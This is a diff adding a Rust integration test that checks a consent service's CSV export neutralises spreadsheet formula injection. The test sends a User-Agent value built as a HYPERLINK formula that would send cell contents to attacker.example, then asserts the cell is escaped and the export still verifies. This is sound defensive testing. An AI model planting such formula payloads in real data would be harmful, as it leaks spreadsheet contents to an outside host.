@@ -8,7 +8,64 @@ use serde_json::{Value, json};
 use crate::helpers::{Backend, TestApp, all, spawn_app};
 use crate::on_both_backends;
 
-on_both_backends!(export_round_trip_verifies_offline_and_every_tampering_is_named);
+on_both_backends!(
+    export_round_trip_verifies_offline_and_every_tampering_is_named,
+    a_formula_in_a_user_agent_is_inert_in_the_csv_and_the_export_still_verifies,
+);
+
+async fn a_formula_in_a_user_agent_is_inert_in_the_csv_and_the_export_still_verifies(
+    backend: Backend,
+) {
+    let Some(app) = spawn_app(backend).await else {
+        return;
+    };
+    let key = add_auditor(&app, "dpo");
+    let payload = r#"=HYPERLINK("http://attacker.example/?"&A1,"click")"#;
+    let response = app
+        .client
+        .post(app.url("/v1/consents"))
+        .header("User-Agent", payload)
+        .json(&crate::helpers::consent_body(all("www", true)))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 201);
+    let csv = export(&app, &key, "format=csv").await;
+    let mut reader = csv::Reader::from_reader(csv.as_slice());
+    let ua_column = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == "user_agent")
+        .unwrap();
+    let cells: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[ua_column].to_owned())
+        .filter(|c| !c.is_empty())
+        .collect();
+    assert_eq!(
+        cells,
+        [format!("'{payload}")],
+        "the cell cannot start a formula"
+    );
+    for record in csv::Reader::from_reader(csv.as_slice()).records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "no cell starts a formula: {cell}"
+            );
+        }
+    }
+    let report = verify(&app.jwks().await, &csv, Format::Csv).expect("the export verifies");
+    assert_eq!(report.events, 1);
+    let ndjson = export(&app, &key, "format=ndjson").await;
+    assert!(
+        String::from_utf8(ndjson)
+            .unwrap()
+            .contains(r#""user_agent":"=HYPERLINK("#),
+        "NDJSON keeps the stored value as it is"
+    );
+}
 
 /// Adds an auditor through the CLI and returns the key it printed.
 fn add_auditor(app: &TestApp, name: &str) -> String {
